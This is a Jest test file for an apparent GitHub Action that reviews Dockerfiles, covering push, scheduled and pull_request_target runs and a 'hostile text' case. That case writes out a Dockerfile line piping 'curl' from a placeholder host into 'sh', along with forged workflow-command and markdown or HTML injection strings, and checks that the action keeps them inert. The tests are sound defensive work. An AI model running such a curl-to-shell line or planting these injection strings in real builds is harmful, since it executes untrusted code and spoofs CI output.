import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
import {
  mergeGroupEvent,
  pullRequestEvent,
  pushEvent,
  scheduleEvent,
  workflowDispatchEvent,
} from '../github/events.ts';
import { type LoopbackGitHub, startGitHub, WORKFLOW_TOKEN } from '../github/loopback/server.ts';
import { BASE, HEAD } from '../github/open.ts';
import { CLEAN, RISKY } from './dockerfiles.ts';
import { type ActionInputs, makeWorkspace, requireBundle, runAction, workflowCommands } from './runner.ts';

let server: LoopbackGitHub;
requireBundle();
beforeEach(async () => {
  server = await startGitHub();
  server.state.pulls.set(7, { number: 7, headSha: HEAD, baseSha: BASE });
  server.state.commits.add(BASE);
});
afterEach(async () => {
  await server.close();
  expect(server.problems).toEqual([]);
});

async function run(event: string, payload: unknown, dockerfile: string, inputs: ActionInputs = {}) {
  const workspace = makeWorkspace({ Dockerfile: dockerfile });
  const all = { build: 'false', scanners: 'none', ...inputs };
  try {
    return await runAction({ event, payload, workspace: workspace.folder, apiUrl: server.url, sha: HEAD, inputs: all });
  } finally {
    workspace.remove();
  }
}

describe('events without a pull request', () => {
  test.each([
    ['push', pushEvent()],
    ['merge_group', mergeGroupEvent()],
    ['schedule', scheduleEvent()],
    ['workflow_dispatch', workflowDispatchEvent()],
  ])(
    '%s: a check on the commit, summary, outputs, exit code; no comment and no question about one',
    async (event, payload) => {
      const result = await run(event, payload, RISKY);
      expect(result).toMatchObject({ exitCode: 1, outputs: { verdict: 'failure', 'comment-url': '' } });
      expect(server.state.checks).toMatchObject([{ headSha: HEAD, conclusion: 'failure' }]);
      expect(server.state.comments).toEqual([]);
      expect(server.requests.filter(({ path }) => /comments|user|graphql/.test(path))).toEqual([]);
      expect(result.summary).toContain('Blocked');
    },
  );

  test('a clean push is green', async () => {
    expect(await run('push', pushEvent(), CLEAN)).toMatchObject({ exitCode: 0, outputs: { verdict: 'success' } });
  });
});

describe('pull_request_target', () => {
  const payload = pullRequestEvent('opened', { fork: true });

  test.each(['auto', 'true'])(
    'is refused where it would build (build: %s), and says so on the pull request',
    async (build) => {
      const result = await run('pull_request_target', payload, CLEAN, { build });
      expect(result).toMatchObject({ exitCode: 1, outputs: { verdict: 'error' } });
      expect(result.stdout).toMatch(/^::error::Could not review: .*pull_request_target.*`build: false`/m);
      expect(server.state.checks).toMatchObject([{ headSha: HEAD, conclusion: 'failure' }]);
      expect(server.state.comments).toHaveLength(1);
    },
  );

  test('reviews what needs no build', async () => {
    const result = await run('pull_request_target', payload, CLEAN);
    expect(result).toMatchObject({ exitCode: 0, outputs: { verdict: 'success' } });
  });
});

describe('hostile text', () => {
  const attack = '::error::planted ##[error]planted @octocat <img/src=x> |[a](http://b)';
  const dockerfile = `FROM debian:latest
LABEL note="${attack}"
RUN curl "http://x.invalid/${attack.replaceAll(' ', '')}" | sh
`;
  const payload = pullRequestEvent('opened', { title: attack });

  test.each([
    ['check and comment', WORKFLOW_TOKEN],
    ['annotations in the log', ''],
  ])('of a Dockerfile stays text: %s', async (_where, token) => {
    const { stdout, outputs, summary } = await run('pull_request', payload, dockerfile, { 'github-token': token });
    expect(outputs['verdict']).toBe('failure');
    expect(stdout).not.toContain('##[');
    const names = ['group', 'endgroup', 'stop-commands', 'error', 'warning'];
    const found = workflowCommands(stdout);
    expect(found.filter(({ name }) => !names.includes(name))).toEqual([]);
    expect(found.filter(({ text }) => text.startsWith('planted'))).toEqual([]);
    for (const markdown of [summary, ...server.state.comments.map(({ body }) => body)]) {
      // Nothing of it may stand outside a code span.
      const plain = markdown.replace(/(`+)(?!`).*?[^`]\1(?!`)/gs, '');
      expect(plain).not.toMatch(/@octocat|<img|\]\(http:\/\/b/);
    }
  });
});
